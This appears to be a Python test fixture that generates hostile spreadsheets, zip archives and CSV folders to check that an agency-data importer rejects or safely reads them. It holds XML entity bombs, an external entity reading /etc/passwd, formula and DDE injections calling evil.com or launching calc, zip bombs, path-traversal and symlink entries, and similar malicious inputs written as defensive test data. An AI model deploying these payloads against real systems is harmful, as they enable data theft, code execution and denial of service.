"""A hostile tester's files and folders: each is refused in words, or read rightly."""

from __future__ import annotations

import json
import os
import random
import struct
import zipfile
from collections.abc import Callable, Collection
from functools import partial
from io import BytesIO
from itertools import pairwise
from pathlib import Path
from typing import Any

from openpyxl import Workbook

from tests.files import zoo_parts as made

Made = Callable[[], bytes]
"""Makes a file when it is wanted, since some take a while."""

AGENCIES = b"agency,name\nn,North\ns,South\n"
PEOPLE = b"practitioner,name,agency\na,Ann,n\nb,Bob,s\n"
HEAD = f'<row r="1">{made.inline("A1", "agency")}{made.inline("B1", "name")}</row>'
GOOD = HEAD + f'<row r="2">{made.inline("A2", "n")}{made.inline("B2", "North")}</row>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def letters(number: int) -> str:
    return "".join(random.Random(number).choices("abcdefghij ", k=number))


def book(rows: str = GOOD, before: str = "", strings: str = "", dimension: str = "") -> bytes:
    sheet = made.sheet(rows, before).replace("<sheetData>", f"{dimension}<sheetData>")
    return made.workbook(sheet=sheet, book=made.book("agencies"), strings=made.strings(strings))


def written(**cells: Any) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "agencies"
    sheet.append(["agency", "name"])
    for place, value in cells.items():
        sheet[place] = value
    whole = BytesIO()
    workbook.save(whole)
    return whole.getvalue()


def declared(entities: list[str]) -> str:
    return "<!DOCTYPE x [" + "".join(f"<!ENTITY {one}>" for one in entities) + "]>"


def bursting_books() -> dict[str, Made]:
    shared = "".join(
        f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c><c r="B{n}" t="s"><v>0</v></c></row>'
        for n in range(2, 40_000)
    )
    far = "".join(f'<row r="{n}">{made.inline(f"XFD{n}", "x")}</row>' for n in range(1_000_000, 1_002_000))
    empty = "".join(f'<row r="{n}">' + "<c/>" * 400 + "</row>" for n in range(3, 9_000))
    names = [f"l{n}" for n in range(9)]
    laughs = ['l0 "ha"', *(f'{name} "{f"&{before};" * 10}"' for before, name in pairwise(names))]
    strings = "".join(f"<si><t>{n}{'lorem ipsum ' * 30}</t></si>" for n in range(150_000))
    return {
        "false-dim.xlsx": lambda: book(dimension='<dimension ref="A1:XFD1048576"/>'),
        "false-dim-far.xlsx": lambda: book(GOOD + f'<row r="1048576">{made.inline("XFD1048576", "x")}</row>'),
        "far-rows.xlsx": lambda: book(GOOD + far),
        "strings-bomb.xlsx": lambda: book(strings=strings),
        "strings-empty.xlsx": lambda: book(strings="".join(f"<si><t>{n}</t></si>" for n in range(2_500_000))),
        "string-x-cells.xlsx": lambda: book(HEAD + shared, strings=f"<si><t>{letters(30_000)}</t></si>"),
        "many-cells.xlsx": lambda: book(GOOD + empty),
        "wide-row.xlsx": lambda: book(
            "<row>" + '<c t="inlineStr"><is><t>a</t></is></c>' * 300_000 + "</row>"
        ),
        "laughs.xlsx": lambda: book(GOOD.replace("North", "&l8;"), declared(laughs)),
        "quadratic.xlsx": lambda: book(
            GOOD.replace("North", "&a;" * 40_000), declared([f'a "{"x" * 40_000}"'])
        ),
        "deep.xlsx": lambda: book("<a>" * 200_000),
        "long-attribute.xlsx": lambda: book(f'<row r="1" a="{"x" * 4_000_000}"></row>'),
        "ratio-99.xlsx": lambda: book(
            GOOD + "<!--" + "".join(letters(60) * 60 for _ in range(3_000)) + "-->"
        ),
    }


def strange_books() -> dict[str, Made]:
    errors = (
        '<row r="3"><c r="A3" t="e"><v>#DIV/0!</v></c><c r="B3" t="e"><v>#REF!</v></c></row>'
        '<row r="4"><c r="A4"><f>1/0</f><v></v></c></row>'
        '<row r="5"><c r="A5" t="str"><f>HYPERLINK("http://evil")</f><v>evil</v></c></row>'
    )
    numbers = '<row r="2"><c r="A2"><v>NaN</v></c><c r="B2"><v>-0</v></c></row>'
    days = '<row r="2"><c r="A2" t="d"><v>99999-01-01</v></c><c r="B2"><v>1e12</v></c></row>'
    places = f'<row r="-5">{made.inline("A0", "agency")}</row><row r="9999"><c r="ZZZZZZ1"><v>1</v></c></row>'
    return {
        "outside.xlsx": lambda: book(
            GOOD.replace("North", "&x;"), declared(['x SYSTEM "file:///etc/passwd"'])
        ),
        "errors.xlsx": lambda: book(GOOD + errors),
        "formulas.xlsx": lambda: written(
            A2='=HYPERLINK("http://evil.com","x")', B2="=cmd|' /C calc'!A0", B3="@SUM(1)"
        ),
        "links.xlsx": lambda: written(
            A2="='[http://evil.com/x.xlsx]Sheet1'!A1", B2='=WEBSERVICE("http://evil.com")'
        ),
        "locked.xlsx": lambda: OLE + b"\0" * 3_000,
        "cut.xlsx": lambda: written(A2="n", B2="x")[:-100],
        "half.xlsx": lambda: written(A2="n", B2="x")[:2_000],
        "no-number.xlsx": lambda: book(HEAD + numbers),
        "far-days.xlsx": lambda: book(HEAD + days),
        "no-places.xlsx": lambda: book(places),
        "far-row.xlsx": lambda: book(GOOD + f'<row r="2000000000">{made.inline("A2000000000", "z")}</row>'),
        "style.xlsx": lambda: book(GOOD.replace('<c r="A2"', '<c s="999999999" r="A2"')),
        "no-sheet.xlsx": lambda: made.zipped(("xl/workbook.xml", b"")),
        "loop.xlsx": lambda: made.workbook(GOOD, links=made.links("workbook.xml")),
        "macro.xlsm": lambda: written(A2="n"),
        "old.xls": lambda: OLE + random.Random(1).randbytes(5_000),
        "text.xlsx": lambda: AGENCIES,
        "other.xlsb": lambda: written(A2="n"),
        "no-table.ods": lambda: made.zipped(("content.xml", b"<a/>")),
    }


def overlapping(entries: int) -> bytes:
    """Many names for the same bytes."""
    one = made.zipped(("agencies.csv", b"agency,name\n" + b"a," + b"b" * 4_000_000 + b"\n"))
    (entry,) = zipfile.ZipFile(BytesIO(one)).infolist()
    start = one[: one.index(b"PK\x01\x02")]
    sizes = (entry.CRC, entry.compress_size, entry.file_size)
    form = "<4sBBHHHHHIIIHHHHHII"
    head = (b"PK\x01\x02", 20, 3, 20, 0, 8, 0, 0, *sizes, 9, 0, 0, 0, 0, 0, 0)
    names = b"".join(struct.pack(form, *head) + b"%05d.csv" % n for n in range(entries))
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries, entries, len(names), len(start), 0)
    return start + names + end


def archives() -> dict[str, Made]:
    inner = made.zipped(("agencies.csv", b"0" * 4_900_000))
    for _ in range(4):
        inner = made.zipped(*((f"{n}.zip", inner) for n in range(10)))
    tables = ("agencies", "practitioners", "zones", "meetings", "attendance", "contacts")
    rows = b"agency,name\n" + b"a,b\n" * 1_200_000
    link = zipfile.ZipInfo("agencies.csv")
    link.external_attr = 0o120777 << 16
    return {
        "nested.zip": lambda: made.zipped(("a.zip", made.zipped(("agencies.csv", AGENCIES)))),
        "42.zip": lambda: inner,
        "below-the-floor.zip": lambda: made.zipped(*((f"{n}.csv", b"0" * 4_900_000) for n in range(60))),
        "tables-below-the-floor.zip": lambda: made.zipped(*((f"{name}.csv", rows) for name in tables)),
        "zeros.zip": lambda: made.zipped(("agencies.csv", b"\0" * 50_000_000)),
        "overlapping.zip": lambda: overlapping(600),
        "lying.zip": lambda: made.with_size(
            made.zipped(("agencies.csv", b"agency\n" + b"a,b\n" * 10_000_000)), 1_000
        ),
        "outside.zip": lambda: made.zipped(("../../../out.csv", AGENCIES), ("agencies.csv", AGENCIES)),
        "rooted.zip": lambda: made.zipped(("/out.csv", AGENCIES), ("agencies.csv", AGENCIES)),
        "link.zip": lambda: made.zipped((link, b"/etc/passwd")),
        "zero-in-name.zip": lambda: made.zipped(("agen\0cies.csv", AGENCIES)),
        "long-name.zip": lambda: made.zipped(("a" * 60_000 + ".csv", AGENCIES), ("agencies.csv", AGENCIES)),
        "crowd.zip": lambda: made.zipped(
            *((f"{n}.csv", b"") for n in range(65_000)), method=zipfile.ZIP_STORED
        ),
        "cut.zip": lambda: made.zipped(("agencies.csv", AGENCIES))[:-10],
        "empty.zip": made.zipped,
        "noise.zip": lambda: random.Random(2).randbytes(10_000),
        "bzip2.zip": lambda: made.zipped(("agencies.csv", b"a" * 10_000_000), method=zipfile.ZIP_BZIP2),
        **packages(),
    }


def packages() -> dict[str, Made]:
    climbing = json.dumps({"resources": [{"name": "agencies", "path": "../../../../etc/passwd"}]})
    rooted = json.dumps({"resources": [{"name": "agencies", "path": "/etc/passwd"}]})
    said = {
        "climbing": climbing,
        "rooted": rooted,
        "deep": "[" * 100_000 + "]" * 100_000,
        "big": '{"a":"' + "x" * 4_900_000 + '"}',
        "number": '{"a":' + "9" * 100_000 + "}",
    }
    return {
        f"package-{name}.zip": partial(
            made.zipped, ("datapackage.json", text.encode()), ("agencies.csv", AGENCIES)
        )
        for name, text in said.items()
    }


def texts() -> dict[str, Made]:
    """Tables of agencies."""
    wide = b",".join(b"c%d" % n for n in range(1_000_000)) + b"\n" + b"," * 999_999 + b"\n"
    return {
        "zero": lambda: b"agency,name\nn,No\0rth\n",
        "utf-7": lambda: b"agency,name\n+ADw-script+AD4-,x\n",
        "utf-16": lambda: "agency,name\nn,Nörth\n".encode("utf-16"),
        "utf-16-unmarked": lambda: "agency,name\nn,North\n".encode("utf-16-le"),
        "utf-32": lambda: "agency,name\nn,Nörth\n".encode("utf-32"),
        "surrogate": lambda: b"agency,name\nn,\xed\xa0\x80\xed\xb0\x80\n",
        "overlong": lambda: b"agency,name\nn,\xc0\xaf\n",
        "no-text": lambda: b"agency,name\nn,\xff\xfe\x81\n",
        "right-to-left": "agency,name\n\u202egpj.exe,\u202e\u2066x\u2069\n".encode,
        "zero-width": "agency,name\nn\u200b,x\nn,x\n".encode,
        "composed": "agency,name\né,x\ne\u0301,y\n".encode,
        "missing": lambda: b"agency,name\nNaN,x\nnan,y\nNone,z\nnull,w\nN/A,v\n<NA>,u\n",
        "long-id": lambda: b"agency,name\n" + b"x" * 1_000_000 + b",big\n" + b"y,z\n",
        "noughts": lambda: b"agency,name\n-0,x\n0,y\n+0,z\n0.0,q\n1e3,r\n1000,s\n",
        "million-columns": lambda: wide,
        "endless-line": lambda: b"agency,name\nn," + b"x" * 50_000_000,
        "quotes": lambda: b"agency,name\n" + b'"' * 2_000_001 + b"\n",
        "open-quote": lambda: b'agency,name\n"n,x\n' + b"a,b\n" * 500_000,
        "returns": lambda: b"agency,name\rn,x\rs,y\r",
        "mixed-ends": lambda: b'agency,name\r\nn,x\rs,y\nq,"a\r\nb"\n',
        "doubled-header": lambda: b"agency,agency,name,name\na,b,c,d\n",
        "empty-header": lambda: b",,,\na,b,c,d\n",
        "formula-header": lambda: b"=agency,@name\na,b\n",
        "blank": lambda: b"",
        "spaces": lambda: b"   \n  \n",
        "commas": lambda: b",,,,\n" * 300_000,
        "two-marks": lambda: b"\xef\xbb\xbf\xef\xbb\xbfagency,name\nn,x\n",
        "ragged": lambda: b'agency,name\na\na,b,c,d,e,f\n\n"a\n',
        "vertical-tab": lambda: b"agency,name\x0b\nn\x0c,x\x1c\n\x85,y\n",
        "controls": lambda: bytes(range(1, 10)) + b",x\nagency,name\n",
        "json": lambda: b'{"agency":[1]}',
        "html": lambda: b"<html><script>alert(1)</script>",
        "many-rows": lambda: b"agency,name\n" + b"".join(b"a%d,n\n" % n for n in range(1_500_000)),
        "dates": lambda: b"agency,name,opened\na,b,9999-12-31\nc,d,99999999-01-01\n",
        "same-error": lambda: (
            b"agency,partnership\n" + b"".join(b"a%d,%s\n" % (n, b"x" * 99) for n in range(40_000))
        ),
    }


def write_folders(place: Path, names: Collection[str] | None = None) -> None:
    """Folders of tables, with links, a pipe and packages that lead elsewhere among them."""
    for name, made_now in texts().items():
        if names is None or name in names:
            tables(place / name, agencies=made_now())
    days = ("9999-12-31", "0001-01-01", "2262-04-12", "999999999-01-01", "-5000-01-01", "1e400", "2024-06-31")
    meetings = "meeting,zone,date\n" + "".join(f"{n},z,{day}\n" for n, day in enumerate(days))
    tables(place / "far-meetings", practitioners=PEOPLE, zones=b"zone\nz\n", meetings=meetings.encode())
    links = tables(place / "links")
    (links / "practitioners.csv").symlink_to("/etc/passwd")
    (links / "zones.csv").symlink_to("/dev/zero")
    os.mkfifo(tables(place / "pipe") / "practitioners.csv")
    circle = tables(place / "circle")
    (circle / "loop").symlink_to(".")
    (circle / "zones.csv").symlink_to("zones.csv")
    (tables(place / "folder-as-table") / "zones.csv").mkdir()
    climbing = [{"name": "agencies", "path": "a/../../blank"}, {"name": "zones", "path": "C:\\x"}]
    package = tables(place / "package-climbing") / "datapackage.json"
    package.write_text(json.dumps({"resources": climbing}))
    deep = tables(place / "package-deep") / "datapackage.json"
    deep.write_text('{"a":' * 50_000 + "1" + "}" * 50_000)
    number = tables(place / "package-number") / "datapackage.json"
    number.write_text('{"a":' + "9" * 5_000 + "}")


def tables(folder: Path, **files: bytes) -> Path:
    folder.mkdir()
    for name, data in {"agencies": AGENCIES, **files}.items():
        (folder / f"{name}.csv").write_bytes(data)
    return folder


def write_zoo(place: Path, names: Collection[str] | None = None) -> list[Path]:
    """Every file and folder of the zoo, or those of some names."""
    place.mkdir(exist_ok=True)
    files = {**bursting_books(), **strange_books(), **archives()}
    for name, made_now in files.items():
        if names is None or name in names:
            (place / name).write_bytes(made_now())
    write_folders(place, names)
    return sorted(each for each in place.iterdir() if names is None or each.name in names)
